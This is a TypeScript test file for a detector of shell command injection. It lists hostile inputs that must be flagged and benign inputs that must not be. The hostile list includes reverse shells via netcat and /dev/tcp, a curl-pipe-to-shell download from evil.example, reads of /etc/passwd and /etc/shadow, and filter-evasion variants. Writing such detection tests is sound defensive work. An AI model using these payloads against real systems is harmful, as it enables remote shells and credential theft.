import assert from 'node:assert/strict'
import { test } from 'node:test'
import { found, sure } from './request.fixture.ts'

const attacks: readonly (readonly [text: string, name?: string])[] = [
  ['8.8.8.8; cat /etc/passwd'],
  ['8.8.8.8 && whoami'],
  ['x | nc evil.example 4444 -e /bin/sh'],
  ['$(whoami)'],
  ['a`id`'],
  ['a\ncat /etc/passwd'],
  ['8.8.8.8%0aid', 'host'],
  [";c'a't /etc/pas'swd'"],
  ['x;w\\ho\\am\\i'],
  ['x;cat${IFS}/etc/passwd'],
  ['x;{cat,/etc/passwd}'],
  ['x;/???/??t /???/p??s??'],
  ['x & type C:\\Windows\\win.ini'],
  ['%COMSPEC% /c dir'],
  ['-oProxyCommand=sh -c id'],
  ['--upload-pack=touch /tmp/x'],
  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['curl http://evil.example/x | sh', 'command'],
  ['ls; cat /etc/shadow', 'command'],
  ['() { :; }; /bin/bash -c id'],
  ['x; sleep 5'],
  ['x & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
]
for (const [text, name] of attacks) {
  test(`${JSON.stringify(text)} runs a command`, () => {
    const { findings } = found(text, name ?? 'hostname')
    assert.ok(sure(findings).includes('shell'), JSON.stringify(findings))
  })
}

const harmless: readonly (readonly [text: string, name?: string])[] = [
  ['R&D'],
  ['Tom & Jerry; salt & pepper'],
  ['cats; dogs; find the best'],
  ['a | b | c'],
  ['| id | name | date |'],
  ['name;id;date'],
  ['(get|set|type|id)'],
  ['curl|wget|httpie'],
  ['$5 (approx)'],
  ['Use the `id` column, not `name`', 'text'],
  ['run `npm install` && `npm test`', 'text'],
  ['npm install && npm test', 'command'],
  ['ls -la | grep src; echo done', 'command'],
  ['cat package.json | jq .version', 'command'],
  ['#!/bin/sh\nset -e\nls -la | wc -l\n', 'content'],
  ['Explain what `; rm -rf /` does and why it is dangerous in user input', 'question'],
  ['$(document).ready(go)', 'code'],
  ['--help'],
  ['bash -c "npm test"', 'command'],
  ['whoami|uname|ifconfig'],
  ['https://example.com/?a=1&cat=3&id=5', 'url'],
  ['Please fix; make sure it works; kill time; echo that'],
]
for (const [text, name] of harmless) {
  test(`${JSON.stringify(text)} runs none`, () => {
    assert.deepEqual(sure(found(text, name ?? 'query').findings), [])
  })
}
